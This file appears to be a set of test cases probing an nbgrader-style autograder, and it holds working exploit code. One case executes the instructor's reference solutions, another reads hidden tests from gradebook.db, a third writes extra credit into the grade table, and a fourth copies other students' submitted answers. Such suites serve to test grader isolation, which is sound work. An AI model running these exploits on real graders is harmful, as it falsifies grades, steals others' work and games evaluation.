# %% [markdown] id="T16" answers="zeros" points=[0] stock_here="25 points"
# # run the reference from solutions/
#
# Autograding works inside the course folder, as the instructor's user: the reference is three
# folders up.

# %% solution="cross_entropy"
import json
import pathlib


def steal(name):
    for folder in pathlib.Path.cwd().parents:
        for path in folder.glob("solutions/*/lab.ipynb"):
            for cell in json.loads(path.read_text())["cells"]:
                if cell["metadata"].get("nbgrader", {}).get("grade_id") == name:
                    exec("".join(cell["source"]), globals())


def cross_entropy(Z, y):
    return 0.0


steal("cross_entropy")

# %% solution="linear_backward"
steal('linear_backward')

# %% solution="conv1d"
steal('conv1d')

# %% solution="numerical_gradient"
steal('numerical_gradient')

# %% [markdown] id="T17" answers="right" points=[25] stock_here="leaks"
# # read hidden tests from gradebook.db
#
# The gradebook holds every test's source and everybody's marks.

# %% part="at_end"
import pathlib
import sqlite3
for folder in pathlib.Path.cwd().parents:
    for path in folder.glob("gradebook.db"):
        print(sqlite3.connect(f"file:{path}?mode=ro", uri=True).execute("select source from source_cell").fetchall())

# %% [markdown] id="T18" answers="zeros" points=[0] stock_here="40 points"
# # write extra credit into gradebook.db
#
# The process that runs student code can write to the marks.

# %% part="at_end"
import pathlib
import sqlite3
me = pathlib.Path.cwd().parent.name
for folder in pathlib.Path.cwd().parents:
    for path in folder.glob("gradebook.db"):
        db = sqlite3.connect(path, timeout=5)
        print(db.execute("update grade set extra_credit = 10 where notebook_id in (select sn.id from submitted_notebook sn"
                         " join submitted_assignment sa on sn.assignment_id = sa.id where sa.student_id = ?)", [me]).rowcount)
        db.commit()

# %% [markdown] id="T19" answers="zeros" points=[0] stock_here="25 points" stock_alone=true
# # hand in the neighbour's answers
#
# submitted/ and autograded/ of the whole class lie beside the notebook being run.

# %% solution="cross_entropy"
import json
import pathlib


def steal(name):
    for folder in pathlib.Path.cwd().parents:
        for path in folder.glob("submitted/*/lab/lab.ipynb"):
            if path.parent.parent.name != pathlib.Path.cwd().parent.name:
                for cell in json.loads(path.read_text())["cells"]:
                    if cell["metadata"].get("nbgrader", {}).get("grade_id") == name:
                        exec("".join(cell["source"]), globals())


def cross_entropy(Z, y):
    return 0.0


steal("cross_entropy")

# %% solution="linear_backward"
steal('linear_backward')

# %% solution="conv1d"
steal('conv1d')

# %% solution="numerical_gradient"
steal('numerical_gradient')
